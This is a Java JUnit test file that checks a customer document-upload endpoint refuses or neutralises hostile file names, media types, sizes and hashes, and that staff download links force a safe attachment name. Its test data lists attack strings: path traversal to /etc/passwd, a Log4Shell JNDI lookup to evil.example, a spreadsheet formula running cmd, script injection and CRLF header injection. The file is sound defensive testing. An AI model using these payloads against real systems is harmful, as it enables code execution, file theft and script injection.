package jp.kakuin.attack;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import jp.kakuin.aws.store.S3DocumentStore;
import jp.kakuin.order.OrderId;
import jp.kakuin.testkit.given.EventFile;
import jp.kakuin.testkit.given.Invocation;
import jp.kakuin.upload.DocumentStore;
import jp.kakuin.upload.UploadedDocument;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.auth.credentials.StaticCredentialsProvider;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.s3.S3Client;
import software.amazon.awssdk.services.s3.model.HeadObjectRequest;
import software.amazon.awssdk.services.s3.model.HeadObjectResponse;
import software.amazon.awssdk.services.s3.presigner.S3Presigner;

/**
 * Papers that are no papers. Bombs and polyglots are files like any other: nothing of ours opens one, so what has to hold is what may be put
 * where, and as what staff get it (SPEC V-3).
 */
class HostileUploadTest {

    private static final Route UPLOAD = Route.of("POST /orders/{orderId}/documents");

    static final List<String> NAMES = List.of(
            "../../../../etc/passwd",
            "..\\..\\windows\\system32\\evil.pdf",
            "/documents/K0HV5R34X51SB/other",
            "paper\u202efdp.exe",
            "paper.pdf\r\nContent-Type: text/html\r\n\r\n<script>",
            "paper.pdf\"; filename=\"evil.html",
            "paper.pdf\u0000.exe",
            "%2e%2e%2f%00evil",
            "．．／．．／evil",
            "CON",
            "-rf *",
            "=cmd|' /C calc'!A0",
            "<img src=x onerror=alert(1)>.pdf",
            "${jndi:ldap://evil.example/x}",
            "a".repeat(200),
            ".htaccess");

    private final Log log = new Log();

    @AfterEach
    void closeLog() {
        log.close();
    }

    @ParameterizedTest
    @FieldSource("NAMES")
    void paper_shouldLieAndBeReadUnderOurOwnName_whenItsNameIsATrick(String name) {
        var world = new AttackedWorld(Door.of(UPLOAD));

        var answer = announce(world, Map.of("name", name));

        assertThat(answer.status()).isEqualTo(200);
        var paper = world.order().order().documents().getLast();
        assertThat(Poison.UNPRINTABLE.matcher(paper.name()).find()).isFalse();
        assertThat(paper.key(world.order().id())).matches("documents/K[0-9A-Z]{12}/P[0-9A-Z]{12}");
        assertThat(world.order().ports().documents.permitted())
                .containsExactly(paper.key(world.order().id()));
        var url = download(paper);
        assertThat(url.getPath()).endsWith(paper.key(new OrderId("K000000000001")));
        assertThat(url.getQuery())
                .contains("response-content-disposition=attachment; filename=\"" + paper.id() + ".pdf\"&")
                .doesNotContain("evil", "script", "passwd", "exe");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "text/html",
                "image/svg+xml",
                "application/zip",
                "application/x-msdownload",
                "application/xhtml+xml",
                "APPLICATION/PDF",
                "application/pdf; charset=utf-8",
                "application/pdf\r\nX-Attack: 1",
                "application/pdf,text/html",
                " application/pdf",
                "*/*",
                ""
            })
    void staff_shouldNeverMeetAPage_whenAnotherTypeIsAnnounced(String type) {
        assertRefused(Map.of("mediaType", type), "DOCUMENT_TYPE_NOT_ALLOWED");
    }

    @ParameterizedTest
    @ValueSource(longs = {0, -1, Long.MIN_VALUE, 10L * 1024 * 1024 + 1, 1L << 32, Long.MAX_VALUE})
    void store_shouldNotFill_whenASizeIsImpossible(long size) {
        assertRefused(Map.of("size", size), size > 0 ? "DOCUMENT_TOO_LARGE" : "DOCUMENT_EMPTY");
    }

    @Test
    void store_shouldNotFill_whenAnotherPaperIsAnnouncedAgainAndAgain() {
        var world = new AttackedWorld(Door.of(UPLOAD));
        var answers = new ArrayList<Integer>();
        for (int i = 0; i < 60; i++) {
            answers.add(announce(world, Map.of("sha256", "%064x".formatted(i))).status());
        }
        assertThat(answers)
                .containsOnly(200, 409)
                .filteredOn(status -> status == 200)
                .hasSize(50);
    }

    @Test
    void hash_shouldBeTheEvidence_whenItIsWrittenInAnyOtherWay() {
        for (var hash :
                List.of("", "A".repeat(64), "a".repeat(63), "a".repeat(65), "g".repeat(64), "a".repeat(64) + "\n")) {
            assertRefused(Map.of("sha256", hash), "DOCUMENT_HASH_MALFORMED");
        }
    }

    @Test
    void browser_shouldObeyUsAndNotTheCustomer_whenItFetchesAPaper() {
        var query = download(new UploadedDocument("P1", "x", "image/png", 3, "0".repeat(64), TypedApplication.NOW))
                .getQuery();

        assertThat(query)
                .contains("response-content-type=image/png&", "response-content-encoding=identity&")
                .contains("response-cache-control=no-store&", "filename=\"P1.png\"");
    }

    @Test
    void bomb_shouldNeverUnpack_becauseNothingOfOursCanReadAPaper() throws IOException {
        assertThat(Arrays.stream(DocumentStore.class.getMethods())
                        .map(method -> method.getGenericReturnType().toString()))
                .noneMatch(type -> type.contains("byte") || type.contains("Stream"));
        // On AWS as well: one function's role may read papers, to sign an address at which staff do.
        var functions =
                Files.readString(EventFile.root().resolve("template.yaml")).split("\n  (?=[A-Za-z]+:\n)");
        assertThat(Stream.of(functions)
                        .filter(part -> Pattern.compile("!Ref ReadUploads")
                                .matcher(part)
                                .find())
                        .map(part -> part.substring(0, part.indexOf(':'))))
                .containsExactly("ReadStaffOrdersFunctionRole");
    }

    private void assertRefused(Map<String, Object> changed, String code) {
        var world = new AttackedWorld(Door.of(UPLOAD));
        var before = world.everything();

        var answer = announce(world, changed);

        assertThat(answer.status()).isEqualTo(422);
        assertThat(answer.body().path("code").asText()).isEqualTo(code);
        assertThat(world.everything()).isEqualTo(before);
    }

    private static Invocation.Answer announce(AttackedWorld world, Map<String, Object> changed) {
        var event = world.event(Caller.CUSTOMER, Target.OWN);
        var body = (ObjectNode) Poison.body(event);
        changed.forEach(body::putPOJO);
        return world.ask(UPLOAD, event.put("body", body.toString()));
    }

    /** The address that staff get, as the real store signs it. */
    private static URI download(UploadedDocument paper) {
        var presigner = S3Presigner.builder()
                .region(Region.AP_NORTHEAST_1)
                .credentialsProvider(StaticCredentialsProvider.create(AwsBasicCredentials.create("id", "secret")))
                .build();
        try (presigner) {
            return new S3DocumentStore(() -> new Arrived(paper.size()), () -> presigner, "papers")
                    .permitDownload(paper.key(new OrderId("K000000000001")), paper)
                    .orElseThrow();
        }
    }

    /** An S3 in which the paper has arrived. */
    private record Arrived(long size) implements S3Client {

        @Override
        public HeadObjectResponse headObject(HeadObjectRequest request) {
            return HeadObjectResponse.builder().contentLength(size).build();
        }

        @Override
        public String serviceName() {
            return SERVICE_NAME;
        }

        @Override
        public void close() {}
    }
}
